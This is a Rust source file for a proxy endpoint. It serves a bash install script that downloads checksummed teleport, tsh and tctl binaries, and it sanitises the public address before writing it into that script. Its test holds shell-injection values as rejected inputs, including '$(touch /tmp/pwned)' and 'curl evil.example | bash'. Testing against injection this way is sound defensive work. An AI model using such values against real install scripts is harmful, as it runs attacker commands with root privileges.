//! The cluster install script and the binaries it installs.
//!
//! `GET /scripts/install.sh` answers a bash script that installs `teleport`,
//! `tsh` and `tctl` of the proxy's own version: the binaries that sit beside
//! the proxy's executable, served at `GET /webapi/binaries/{name}`. The
//! script carries each binary's SHA-256 and checks it before installing.

use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::SystemTime;

use axum::body::Body;
use axum::extract::{Path as UrlPath, Query, State};
use axum::http::{header, StatusCode};
use axum::response::{IntoResponse, Response};
use axum::routing::get;
use axum::{Json, Router};
use serde::Deserialize;
use sha2::{Digest, Sha256};

/// The binaries the script installs.
pub const BINARIES: [&str; 3] = ["teleport", "tsh", "tctl"];

/// SHA-256 of a binary, keyed by path, valid while mtime and size match.
type SumCache = Arc<Mutex<HashMap<PathBuf, (SystemTime, u64, String)>>>;

#[derive(Clone)]
struct Install {
    dir: Option<PathBuf>,
    public_addr: String,
    sums: SumCache,
}

/// Routes for the script and the binaries. `dir` holds the binaries (the
/// directory of the running executable); `None` disables them.
pub fn router(dir: Option<PathBuf>, public_addr: String) -> Router {
    let state = Install {
        dir,
        public_addr,
        sums: Arc::default(),
    };
    Router::new()
        .route("/scripts/install.sh", get(script))
        .route("/webapi/binaries/{name}", get(binary))
        .route("/v1/webapi/binaries/{name}", get(binary))
        .with_state(state)
}

fn not_found(message: String) -> Response {
    (
        StatusCode::NOT_FOUND,
        Json(api::ErrorBody {
            error: api::ErrorDetail { message },
        }),
    )
        .into_response()
}

fn unavailable(message: String) -> Response {
    (
        StatusCode::SERVICE_UNAVAILABLE,
        Json(api::ErrorBody {
            error: api::ErrorDetail { message },
        }),
    )
        .into_response()
}

impl Install {
    /// Path of a known binary, or None.
    fn path_of(&self, name: &str) -> Option<PathBuf> {
        if !BINARIES.contains(&name) {
            return None;
        }
        self.dir.as_ref().map(|d| d.join(name))
    }

    async fn sha256(&self, path: &Path) -> std::io::Result<String> {
        let meta = tokio::fs::metadata(path).await?;
        let mtime = meta.modified()?;
        if let Ok(cache) = self.sums.lock() {
            if let Some((t, len, sum)) = cache.get(path) {
                if *t == mtime && *len == meta.len() {
                    return Ok(sum.clone());
                }
            }
        }
        let p = path.to_path_buf();
        let sum = tokio::task::spawn_blocking(move || -> std::io::Result<String> {
            let mut f = std::fs::File::open(&p)?;
            let mut h = Sha256::new();
            std::io::copy(&mut f, &mut h)?;
            Ok(hex::encode(h.finalize()))
        })
        .await
        .map_err(std::io::Error::other)??;
        if let Ok(mut cache) = self.sums.lock() {
            cache.insert(path.to_path_buf(), (mtime, meta.len(), sum.clone()));
        }
        Ok(sum)
    }
}

#[derive(Deserialize)]
struct Platform {
    #[serde(default)]
    os: Option<String>,
    #[serde(default)]
    arch: Option<String>,
}

fn platform_ok(p: &Platform) -> bool {
    p.os.as_deref().is_none_or(|o| o == std::env::consts::OS)
        && p.arch
            .as_deref()
            .is_none_or(|a| a == std::env::consts::ARCH)
}

async fn binary(
    State(st): State<Install>,
    UrlPath(name): UrlPath<String>,
    Query(platform): Query<Platform>,
) -> Response {
    if !platform_ok(&platform) {
        return not_found(format!(
            "this proxy serves binaries for {}/{} only",
            std::env::consts::OS,
            std::env::consts::ARCH
        ));
    }
    let Some(path) = st.path_of(&name) else {
        return not_found(format!(
            "unknown binary {name:?}: available are {}",
            BINARIES.join(", ")
        ));
    };
    let file = match tokio::fs::File::open(&path).await {
        Ok(f) => f,
        Err(_) => return unavailable(format!("binary {name} is not installed beside the proxy")),
    };
    let len = file.metadata().await.map(|m| m.len()).unwrap_or(0);
    let stream = tokio_util::io::ReaderStream::new(file);
    Response::builder()
        .header(header::CONTENT_TYPE, "application/octet-stream")
        .header(header::CONTENT_LENGTH, len)
        .body(Body::from_stream(stream))
        .unwrap_or_else(|_| unavailable("response build failed".into()))
}

/// `addr` when it can be written into the script as it is: `host[:port]` of letters, digits,
/// `.`, `-`, `:`, `[` and `]` only, so that neither the comment line nor `PROXY="..."` can end
/// early or expand anything (`$(...)`, backquotes, quotes, newlines).
fn script_safe_addr(addr: &str) -> Option<&str> {
    let ok = !addr.is_empty()
        && addr.len() <= 300
        && addr
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b':' | b'[' | b']'));
    ok.then_some(addr)
}

async fn script(State(st): State<Install>) -> Response {
    let Some(addr) = script_safe_addr(&st.public_addr) else {
        return unavailable(format!(
            "the proxy's public address {:?} cannot be written into the install script: \
             set proxy_service.public_addr to host:port (letters, digits, '.', '-', ':', '[', ']')",
            st.public_addr
        ));
    };
    let mut sums = Vec::new();
    for name in BINARIES {
        let Some(path) = st.path_of(name) else {
            return unavailable("this proxy does not serve binaries".into());
        };
        match st.sha256(&path).await {
            Ok(s) => sums.push((name, s)),
            Err(_) => {
                return unavailable(format!("binary {name} is not installed beside the proxy"))
            }
        }
    }
    let checks: String = sums
        .iter()
        .map(|(n, s)| format!("  {n}) echo {s} ;;\n"))
        .collect();
    let text = format!(
        r#"#!/usr/bin/env bash
# Installs teleport, tsh and tctl v{version} from the proxy {addr}.
set -euo pipefail
PROXY="{addr}"
VERSION="{version}"
OS="$(uname -s)"
ARCH="$(uname -m)"
if [ "$OS" != "Linux" ]; then
  echo "ERROR: this installer supports Linux; this host runs $OS. Download Teleport for $OS instead." >&2
  exit 1
fi
if [ "$ARCH" != "{arch}" ]; then
  echo "ERROR: this proxy serves binaries for {arch}; this host is $ARCH." >&2
  exit 1
fi
DEST="${{TELEPORT_INSTALL_DIR:-/usr/local/bin}}"
expected() {{
  case "$1" in
{checks}  esac
}}
TMP="$(mktemp -d)"
trap 'rm -rf "$TMP"' EXIT
for b in teleport tsh tctl; do
  curl -fsSL "https://$PROXY/webapi/binaries/$b?os=linux&arch={arch}" -o "$TMP/$b"
  got="$(sha256sum "$TMP/$b" | cut -d' ' -f1)"
  if [ "$got" != "$(expected "$b")" ]; then
    echo "ERROR: checksum mismatch for $b: refusing to install" >&2
    exit 1
  fi
done
mkdir -p "$DEST"
for b in teleport tsh tctl; do
  install -m 0755 "$TMP/$b" "$DEST/$b"
done
echo "Teleport v$VERSION installed into $DEST (teleport, tsh, tctl)."
"#,
        version = api::VERSION,
        addr = addr,
        arch = std::env::consts::ARCH,
    );
    ([(header::CONTENT_TYPE, "text/x-shellscript")], text).into_response()
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    async fn script_for(dir: &Path, public_addr: &str) -> (StatusCode, String) {
        let st = Install {
            dir: Some(dir.to_path_buf()),
            public_addr: public_addr.to_string(),
            sums: Arc::default(),
        };
        let resp = script(State(st)).await;
        let status = resp.status();
        let body = axum::body::to_bytes(resp.into_body(), 1 << 20)
            .await
            .unwrap();
        (status, String::from_utf8(body.to_vec()).unwrap())
    }

    /// The public address comes from configuration (or the node name) and is written into a
    /// script that is piped to bash as root: text that could end the line or the quotes, or
    /// expand, is refused, never written.
    #[tokio::test]
    async fn the_script_holds_only_a_plain_public_address() {
        let dir = std::env::temp_dir().join(format!(
            "install-script-test-{}-{}",
            std::process::id(),
            hex::encode(rand_suffix())
        ));
        std::fs::create_dir_all(&dir).unwrap();
        let _cleanup = RemoveOnDrop(dir.clone());
        for b in BINARIES {
            std::fs::write(dir.join(b), b.as_bytes()).unwrap();
        }
        for addr in [
            "proxy.example.com:3080",
            "127.0.0.1:443",
            "[::1]:3080",
            "proxy",
        ] {
            let (status, text) = script_for(&dir, addr).await;
            assert_eq!(status, StatusCode::OK, "{addr}: {text}");
            assert!(text.contains(&format!("PROXY=\"{addr}\"\n")), "{text}");
        }
        for addr in [
            "proxy.example.com:3080\"; touch /tmp/pwned; \"",
            "proxy.example.com$(touch /tmp/pwned)",
            "proxy.example.com`id`",
            "proxy.example.com\ncurl evil.example | bash",
            "proxy.example.com:3080/x?y#z",
            "user@proxy.example.com",
            "proxy example.com",
            "",
        ] {
            let (status, text) = script_for(&dir, addr).await;
            assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE, "{addr:?}: {text}");
            assert!(!text.contains("#!/usr/bin/env bash"), "{addr:?}: {text}");
            assert!(text.contains("proxy_service.public_addr"), "{text}");
        }
    }

    /// Removes the directory even when an assertion fails.
    struct RemoveOnDrop(PathBuf);

    impl Drop for RemoveOnDrop {
        fn drop(&mut self) {
            let _ = std::fs::remove_dir_all(&self.0);
        }
    }

    fn rand_suffix() -> [u8; 8] {
        let t = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| d.as_nanos())
            .unwrap_or(0);
        (t as u64).to_le_bytes()
    }
}
